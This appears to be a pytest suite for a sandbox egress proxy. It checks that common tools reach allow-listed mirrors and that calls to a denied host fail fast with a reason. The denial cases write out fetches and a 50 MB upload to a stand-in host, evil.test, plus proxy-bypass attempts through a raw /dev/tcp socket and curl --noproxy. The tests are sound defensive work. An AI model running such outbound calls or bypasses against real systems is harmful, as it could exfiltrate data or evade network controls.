"""Real tools through the wall: what is allowed works, and what is not fails fast and says why.

docs/egress.md says what each tool does about a proxy; this is where that comes from.
"""
import hashlib
import re

import pytest

from internet import ALLOWED, DNS
from mirrors import BIG_BYTES, CHUNK, Mirrors
from tools_image import make_tools_image

# Beside what the tool takes to start: three times what it needs to tell its version.
FAST_SECONDS = 5
UPLOAD_BYTES = 50 << 20
REASON = "sandboxkit egress denied (not_in_allow_list)"
POLICY = ["ok.test", "*.tools.test"]


@pytest.fixture(scope="session")
def mirrors(internet, tmp_path_factory):
    made = Mirrors(tmp_path_factory.mktemp("mirrors"))
    for web in (internet.web, internet.tls):
        web.hosts.update(made.hosts)
    return made


@pytest.fixture(scope="session")
def tools_image(own, internet):
    return make_tools_image(own, internet.certificate)


@pytest.fixture(scope="module")
def tooled(house, mirrors, tools_image):
    made = house.sandbox(POLICY, image=tools_image, profile="sudo", memory_mb=1024, cpu_cores=2)
    yield made
    made.delete()


@pytest.fixture(autouse=True)
def names(internet, clean_internet):
    internet.dns.answers["*.tools.test"] = [ALLOWED]


def source(url):
    """Makes it the only one that apt knows."""
    return f"echo 'deb [trusted=yes] {url} ./' | sudo tee /etc/apt/sources.list > /dev/null"


WORKS = {
    "curl": ("curl -sS --compressed https://files.tools.test/gzip", "hello from gzip\n"),
    "curl, in clear": ("curl -sS --compressed http://files.tools.test/gzip", "hello from gzip\n"),
    "wget": ("wget -qO- https://files.tools.test/hello", "hello from files\n"),
    "wget, in clear": ("wget -qO- http://files.tools.test/hello", "hello from files\n"),
    "git": ("git clone -q https://git.tools.test/hello.git /tmp/git-tls && cat /tmp/git-tls/README", "hello from git\n"),
    "git, in clear": ("git clone -q http://git.tools.test/hello.git /tmp/git && cat /tmp/git/README", "hello from git\n"),
    # Both structures push to one mirror, and a process id is no name of its own across two sandboxes.
    "git push": ("git clone -q https://git.tools.test/hello.git /tmp/push && cd /tmp/push && "
                 "head -c 3000000 /dev/urandom > more && git add more && "
                 "git -c user.name=n -c user.email=n@tools.test commit -qm more && "
                 "git push -q origin main:refs/heads/pushed-$(cat /proc/sys/kernel/random/uuid) && "
                 "echo pushed", "pushed\n"),
    "pip": ("pip install -q --break-system-packages "
            "-i https://pypi.tools.test/simple/ hello-wheel && "
            "python3 -c 'import hello_wheel; print(hello_wheel.GREETING)'", "hello from a wheel\n"),
    "npm": ("mkdir -p /tmp/npm && cd /tmp/npm && npm install --silent --no-audit --no-fund "
            "--registry https://npm.tools.test/ hello-npm > /dev/null && node -p 'require(\"hello-npm\")'",
            "hello from npm\n"),
    "apt": (f"{source('http://apt.tools.test')} && sudo apt-get -qq update && "
            "sudo apt-get -qq install hello-tools > /dev/null 2>&1; cat /usr/share/hello-tools", "hello from apt\n"),
    "apt, over TLS": (f"{source('https://apt.tools.test')} && sudo apt-get -qq update && cd /tmp && "
                      "apt-get -qq download hello-tools > /dev/null && dpkg-deb -f hello-tools_*.deb Package",
                      "hello-tools\n"),
    "urllib": ("python3 -c 'import urllib.request as r; "
               "print(r.urlopen(\"https://files.tools.test/hello\").read().decode(), end=\"\")'", "hello from files\n"),
    "requests": ("python3 -c 'import requests; print(requests.get(\"https://files.tools.test/gzip\").text, end=\"\")'",
                 "hello from gzip\n"),
    "go": ("go-get https://files.tools.test/hello", "hello from files\n"),
    "go, in clear": ("go-get http://files.tools.test/hello", "hello from files\n"),
    "node with a dispatcher": (
        "node -e 'const {ProxyAgent} = require(\"undici\"); "
        "fetch(\"https://files.tools.test/hello\", {dispatcher: new ProxyAgent(process.env.HTTPS_PROXY)})"
        ".then(a => a.text()).then(t => process.stdout.write(t))'", "hello from files\n"),
}


@pytest.mark.parametrize("tool", WORKS)
def test_it_works_with_what_is_allowed(internet, tooled, tool):
    script, wanted = WORKS[tool]
    with internet.only((ALLOWED, 80), (ALLOWED, 443), names=["files.tools.test", "git.tools.test", "pypi.tools.test",
                                                             "npm.tools.test", "apt.tools.test"]):
        done = tooled.shell(script)
    assert (done["exit_code"], done["stdout"]) == (0, wanted), done


# What a tool shows of a refusal: the reason, or only the status, or neither (docs/egress.md has the list).
SAYS = {
    "curl": ("curl -sS https://evil.test/", "response 403"),
    "curl, in clear": ("curl -sS http://evil.test/; false", "not on this sandbox's allow-list"),
    "curl -i": ("curl -sS -i https://evil.test/", REASON),
    "curl that tunnels to port 80": ("curl -sS -i -p http://files.tools.test/hello", "sandboxkit egress denied (port"),
    "wget": ("wget -O- https://evil.test/", REASON),
    "wget, in clear": ("wget -O- http://evil.test/", f"403: {REASON}"),
    "git": ("git clone https://evil.test/hello.git /tmp/denied", "response 403"),
    "git, in clear": ("git clone http://evil.test/hello.git /tmp/denied", "error: 403"),
    "pip": ("pip download --retries 1 -i https://evil.test/simple/ other-wheel", f"403 {REASON}"),
    "npm": ("npm view --fetch-retries=0 --registry https://evil.test/ hello-npm", f"403 {REASON}"),
    "apt": (f"{source('http://evil.test')}; sudo apt-get -o APT::Update::Error-Mode=any update", f"403  {REASON}"),
    "apt, over TLS": (f"{source('https://evil.test')}; sudo apt-get -o Acquire::Retries=0 -o APT::Update::Error-Mode=any update",
                      REASON),
    "urllib": ("python3 -c 'import urllib.request as r; r.urlopen(\"https://evil.test/\")'", f"403 {REASON}"),
    "urllib, in clear": ("python3 -c 'import urllib.request as r; r.urlopen(\"http://evil.test/\")'", f"403: {REASON}"),
    "requests": ("python3 -c 'import requests; requests.get(\"https://evil.test/\")'", f"403 {REASON}"),
    "go": ("go-get https://evil.test/", REASON),
    "go, in clear": ("go-get http://evil.test/", f"403 {REASON}"),
    "node with a dispatcher": (
        "node -e 'const {ProxyAgent} = require(\"undici\"); "
        "fetch(\"https://evil.test/\", {dispatcher: new ProxyAgent(process.env.HTTPS_PROXY)})'", "fetch failed"),
}


def timed(sandbox, script):
    """What it printed, and how long it took by the sandbox's own clock."""
    done = sandbox.shell(f"began=$EPOCHREALTIME; ({script}) 2>&1; status=$?; "
                         "echo; echo \"$status $(python3 -c \"print($EPOCHREALTIME - $began)\")\"")
    said, _, told = done["stdout"].rstrip("\n").rpartition("\n")
    status, seconds = told.split()
    return said, int(status), float(seconds)


def to_start(sandbox, script):
    program = re.search(r"\b(curl|wget|git|pip|npm|apt-get|python3|go-get|node|getent|bash)\b", script)[0]
    return timed(sandbox, f"{program} --version")[2]


@pytest.mark.parametrize("tool", SAYS)
def test_it_says_why_what_is_denied_fails_and_at_once(internet, tooled, tool):
    script, wanted = SAYS[tool]
    with internet.only():
        said, status, seconds = timed(tooled, script)
    assert wanted in said and status != 0, said
    assert seconds < FAST_SECONDS + 3 * to_start(tooled, script), said
    assert internet.dns.queries == internet.machine_dns.queries == []


BLIND = {
    "node fetch": "node -e 'fetch(\"https://files.tools.test/hello\").then(a => a.text()).then(console.log)'",
    "git over ssh": "GIT_SSH_COMMAND=/usr/bin/false git clone ssh://git@git.tools.test/hello.git /tmp/ssh",
    "a resolver": "getent ahosts files.tools.test",
    "a bare socket": "timeout 10 bash -c '< /dev/tcp/93.184.216.10/80'",
    "curl without the proxy": "curl -sS -m 10 --noproxy '*' http://files.tools.test/hello",
}


@pytest.mark.parametrize("tool", BLIND)
def test_what_knows_nothing_of_a_proxy_reaches_nothing_and_hears_so_at_once(internet, tooled, tool):
    with internet.only():
        said, status, seconds = timed(tooled, BLIND[tool])
    assert status != 0 and "hello from" not in said, said
    assert seconds < FAST_SECONDS + 3 * to_start(tooled, BLIND[tool]), (seconds, said)


@pytest.mark.parametrize("only", ["upper", "lower"])
def test_either_case_of_the_proxy_variables_is_enough_for_tls(tooled, only):
    other = "http_proxy https_proxy" if only == "upper" else "HTTP_PROXY HTTPS_PROXY"
    for tool in ("curl -sS", "go-get", "python3 -c 'import sys, requests; print(requests.get(sys.argv[1]).text, end=\"\")'"):
        said = tooled.shell(f"unset {other}; {tool} https://files.tools.test/hello")
        assert said["stdout"] == "hello from files\n", (tool, said)


def test_a_server_inside_of_the_sandbox_is_reached_without_the_proxy(internet, tooled):
    """The usual development server, asked by the name that its users type."""
    script = ("cd /etc/apt && python3 -m http.server 8000 > /tmp/server.log 2>&1 & "
              "until curl -sS -o /dev/null http://localhost:8000/ 2> /dev/null; do sleep 0.1; done; "
              "url={}; {}; kill %1")
    with internet.only():
        for url in ("http://localhost:8000/sources.list", "http://127.0.0.1:8000/sources.list"):
            for tool in ("curl -sS $url", "wget -qO- $url", "go-get $url",
                         "python3 -c 'import sys, requests; print(requests.get(sys.argv[1]).text)' $url",
                         "node -e 'fetch(process.argv[1]).then(a => a.text()).then(console.log)' $url"):
                said = tooled.shell(script.format(url, tool))
                assert said["stdout"].startswith("deb "), (url, tool, said)
    assert all(each["host"] != "localhost" for each in tooled.denied())


def test_a_large_download_and_a_large_upload_come_through_whole(mirrors, tooled):
    whole = hashlib.sha256()
    for _ in range(BIG_BYTES // len(CHUNK)):
        whole.update(CHUNK)
    said = tooled.shell("curl -sS https://files.tools.test/big | sha256sum", timeout=300)["stdout"]
    assert said.split()[0] == whole.hexdigest()
    zeros = hashlib.sha256(bytes(UPLOAD_BYTES)).hexdigest()
    for way in ("https://files.tools.test/upload -H Expect: --data-binary @/tmp/zeros",
                "http://files.tools.test/upload -H Expect: --data-binary @/tmp/zeros",
                # Chunked, behind a 100-continue.
                "http://files.tools.test/upload -X POST -H 'Expect: 100-continue' --expect100-timeout 20 -T - < /tmp/zeros"):
        said = tooled.shell(f"head -c {UPLOAD_BYTES} /dev/zero > /tmp/zeros; curl -sS {way}", timeout=120)
        assert said["stdout"].split() == [str(UPLOAD_BYTES), zeros], (way, said)


def test_an_upload_to_what_is_denied_is_told_why_and_not_cut_off(internet, tooled):
    program = """
import json, requests
said = []
for body in (bytes(50 << 20), iter([bytes(1 << 20)] * 50)):
    answer = requests.post("http://evil.test/", data=body)
    said.append([answer.status_code, answer.headers.get("X-Sandboxkit-Egress")])
print(json.dumps(said))
"""
    with internet.only():
        assert tooled.python(program) == [[403, "denied; reason=not_in_allow_list"]] * 2


def test_connections_are_kept_and_answers_of_every_framing_are_passed(mirrors, tooled):
    for scheme in ("http", "https"):
        mirrors.connections.clear()
        said = tooled.shell(f"curl -sS {scheme}://files.tools.test/{{hello,chunked,hello,closing}}")["stdout"]
        assert said == "hello from files\n" + "".join(f"chunk {i}\n" for i in range(100)) + \
            "hello from files\nuntil the end\n"
        assert len(mirrors.connections) == 1, scheme


def test_a_websocket_speaks_in_clear_and_over_tls(tooled):
    program = """
import json, os, socket, ssl, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])

def head(stream):
    read = b""
    while not read.endswith(b"\\r\\n\\r\\n"):
        read += stream.recv(1)
    return read.split(b"\\r\\n")[0].decode()

def speak(stream, target):
    stream.sendall(f"GET {target} HTTP/1.1\\r\\nHost: files.tools.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n"
                   "Sec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\\r\\n\\r\\n".encode())
    said = [head(stream)]
    stream.sendall(b"\\x81\\x85" + bytes(4) + b"hello")
    said.append(stream.recv(2) and stream.recv(5).decode())
    return said

clear = speak(socket.create_connection((proxy.hostname, proxy.port)), "http://files.tools.test/socket")
tunnel = socket.create_connection((proxy.hostname, proxy.port))
tunnel.sendall(b"CONNECT files.tools.test:443 HTTP/1.1\\r\\nHost: files.tools.test:443\\r\\n\\r\\n")
assert " 200 " in head(tunnel)
secure = ssl.create_default_context().wrap_socket(tunnel, server_hostname="files.tools.test")
print(json.dumps([clear, speak(secure, "/socket")]))
"""
    assert tooled.python(program) == [["HTTP/1.1 101 Switching Protocols", "hello"]] * 2
